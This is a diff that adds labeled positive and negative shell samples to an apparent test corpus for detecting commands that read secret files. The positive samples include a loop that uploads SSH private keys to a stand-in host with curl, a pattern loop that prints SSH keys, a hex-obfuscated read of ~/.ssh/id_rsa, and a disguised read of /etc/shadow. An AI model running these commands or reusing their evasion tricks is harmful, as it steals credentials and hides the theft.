@@ -103,3 +103,15 @@ find . -path '*/src/*.c' -print
 d=${SHELL:0:1}etc${SHELL:0:1}shadow; cat $d
 #@ neg the first character of SHELL printed
 echo "${SHELL:0:1}"
+#@ pos key files picked by an extended glob in [[ == ]]
+for k in ~/.*/*; do [[ $k == */.@(s|x)@(s|x)h/id_!(*.pub) ]] && curl -F "k=@$k" http://h/u; done
+#@ pos key files picked by a case pattern
+for k in ~/.*/*; do case $k in */.s[s]h/id_*) cat "$k" ;; esac; done
+#@ neg a case over file extensions
+for f in ./*; do case $f in *.txt | *.md) wc -l "$f" ;; esac; done
+#@ neg an extended glob over source files
+[[ $f == *.@(c|h) ]] && gcc -c "$f"
+#@ pos a key path decoded by ${v@E}
+rel='\x2e\x73\x73\x68/\x69\x64\x5f\x72\x73\x61'; cat "$HOME/${rel@E}"
+#@ neg ${v@E} of a harmless escape
+msg='done\tok'; printf '%s\n' "${msg@E}"
